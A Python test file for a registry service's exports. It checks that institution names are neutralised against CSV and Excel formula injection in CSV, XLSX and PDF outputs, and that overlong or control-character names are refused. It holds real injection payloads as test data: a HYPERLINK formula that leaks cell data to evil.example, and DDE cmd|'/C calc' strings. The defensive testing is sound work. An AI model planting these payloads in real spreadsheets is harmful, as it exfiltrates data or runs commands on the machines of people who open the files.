"""A registry full of hostile names, pulled back in every export format by a city assessor.

Registry files come from institutions and assessors open exports in Excel: a name that starts with
``=``, ``+``, ``-``, ``@``, tab or carriage return must never come back as a live formula (OWASP CSV
injection), numbers stay numbers, and the registry's own exports import back unchanged.
"""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from pypdf import PdfReader

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {
    "NJ-GOV-001": '=HYPERLINK("http://evil.example/?leak="&B3,"点击")',
    "NJ-SCH-002": "@SUM(1+1)*cmd|'/C calc'!A0",
    "SZ-HOS-001": "+1+cmd|' /C notepad'!A0",
    "SZ-GOV-002": "-2+3 \u202e\u200f苏州市\u202c 'quoted' =x",
}


def _registry_csvs(api) -> dict[str, bytes]:
    r = api.get("admin", "/v1/registry/export")
    assert r.status_code == 200, r.text
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    return {n: zf.read(n) for n in zf.namelist()}


def _with_names(institutions_csv: bytes, names: dict[str, str]) -> bytes:
    rows = list(csv.DictReader(io.StringIO(institutions_csv.decode("utf-8"))))
    out = io.StringIO()
    w = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    w.writeheader()
    for row in rows:
        row["name"] = names.get(row["id"], row["name"])
        # The seeded rows predate sub-kinds; the registry requires them for schools and hospitals.
        row["sub_kind"] = row["sub_kind"] or {"school": "primary", "hospital": "grade3"}.get(
            row["category"], ""
        )
        w.writerow(row)
    return out.getvalue().encode("utf-8")


def _import(api, files: dict[str, bytes]):
    return api.request(
        "POST",
        "admin",
        "/v1/registry/import",
        files=[("files", (n, data, "application/octet-stream")) for n, data in files.items()],
    )


def _csv_cells(data: bytes) -> list[str]:
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


def _assert_csv_safe(data: bytes) -> None:
    for cell in _csv_cells(data):
        assert not cell.startswith(DANGEROUS), repr(cell)


def _assert_xlsx_safe(data: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(DANGEROUS):
                    # Typed text with Excel's own quote prefix: shown as text, and it stays text on edit.
                    assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)
                values.append(cell.value)
    return values


def test_names_no_export_could_hold_are_refused_with_their_rows(api_rw):
    files = _registry_csvs(api_rw)
    files["institutions.csv"] = _with_names(
        files["institutions.csv"],
        {
            **HOSTILE,
            "NJ-SCH-002": "长" * 10_000,
            "SZ-GOV-002": "bell\x07 and NUL-free control\x1b[31m",
        },
    )
    r = _import(api_rw, files)
    assert r.status_code == 422, r.text
    errors = r.json()["errors"]
    assert [(e["file"], e["column"]) for e in errors] == [("institutions.csv", "name")] * 2
    assert "10000 characters long; at most 200" in errors[0]["message"]
    assert "control character" in errors[1]["message"]
    names = {i["name"] for i in api_rw.get("admin", "/v1/institutions").json()["items"]}
    assert not names & set(HOSTILE.values())  # nothing imported


@pytest.fixture
def hostile(api_rw):
    files = _registry_csvs(api_rw)
    files["institutions.csv"] = _with_names(files["institutions.csv"], HOSTILE)
    r = _import(api_rw, files)
    assert r.status_code == 200, r.text
    assert r.json()["summary"]["institutions"]["updated"] == 4
    return api_rw


def test_every_export_neutralises_formulas(hostile):
    api = hostile
    run = api.runs["province_2026"]
    pulls = [
        ("/v1/institutions", {}),
        (f"/v1/runs/{run}/rankings", {}),
        ("/v1/rankings", {"year": 2026}),
        ("/v1/institutions/NJ-GOV-001/report", {"year": 2026}),
        ("/v1/institutions/NJ-GOV-001/usage", {"start": "2026-01-01", "end": "2026-02-01"}),
        ("/v1/institutions/NJ-GOV-001/quality", {"start": "2026-01-01", "end": "2026-02-01"}),
    ]
    seen_names: set[str] = set()
    for path, params in pulls:
        r = api.get("city_nj", path, params={**params, "format": "csv"})
        assert r.status_code == 200, (path, r.text)
        _assert_csv_safe(r.content)
        seen_names |= {c for c in _csv_cells(r.content) if "HYPERLINK" in c or "SUM(" in c}
        r = api.get("city_nj", path, params={**params, "format": "xlsx"})
        assert r.status_code == 200, (path, r.text)
        values = _assert_xlsx_safe(r.content)
        if path.endswith("rankings") or path == "/v1/institutions":
            assert HOSTILE["NJ-GOV-001"] in values and HOSTILE["NJ-SCH-002"] in values
            # Numbers stay numeric cells.
            assert any(isinstance(v, int | float) and not isinstance(v, bool) for v in values[1:])
        if path.endswith("rankings") or path.endswith("report"):
            r = api.get("city_nj", path, params={**params, "format": "pdf"})
            assert r.status_code == 200, (path, r.text)
            assert PdfReader(io.BytesIO(r.content)).pages
    # CSV keeps the text, behind one apostrophe (what Excel shows as the typed text).
    assert "'" + HOSTILE["NJ-GOV-001"] in seen_names
    r = api.get("city_nj", "/v1/institutions", params={"format": "json"})
    assert {i["name"] for i in r.json()["items"]} == {HOSTILE["NJ-GOV-001"], HOSTILE["NJ-SCH-002"]}


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_registry_export_imports_back_unchanged(hostile, fmt):
    api = hostile
    r = api.get("admin", "/v1/registry/export", params={"format": fmt})
    assert r.status_code == 200
    zf = zipfile.ZipFile(io.BytesIO(r.content))
    files = {n: zf.read(n) for n in zf.namelist()}
    for data in files.values():
        if fmt == "csv":
            _assert_csv_safe(data)
        else:
            _assert_xlsx_safe(data)
    again = _import(api, files)
    assert again.status_code == 200, again.text
    assert again.json()["summary"]["changed"] == 0
    names = {i["id"]: i["name"] for i in api.get("admin", "/v1/institutions").json()["items"]}
    assert names == HOSTILE


@pytest.mark.parametrize(
    "name",
    [
        "长" * 700,  # no break opportunity for a Latin line breaker
        "x" * 10_000,
        " ".join(["word"] * 3000),
        "\u202e" + "右到左" * 300 + "\u200f",
    ],
)
def test_long_text_never_breaks_a_pdf(api_rw, name):
    """Whatever text reaches a PDF (here a name stored before names were bounded) is wrapped or cut."""
    import psycopg

    with psycopg.connect(api_rw.url, autocommit=True) as conn:
        conn.execute("UPDATE institution SET name = %s, address = %s WHERE id = 'NJ-GOV-001'", (name, name))
    run = api_rw.runs["province_2026"]
    for path, params in [
        (f"/v1/runs/{run}/rankings", {}),
        ("/v1/institutions/NJ-GOV-001/report", {"year": 2026}),
    ]:
        r = api_rw.get("city_nj", path, params={**params, "format": "pdf"})
        assert r.status_code == 200, (path, r.text[:300])
        assert PdfReader(io.BytesIO(r.content)).pages
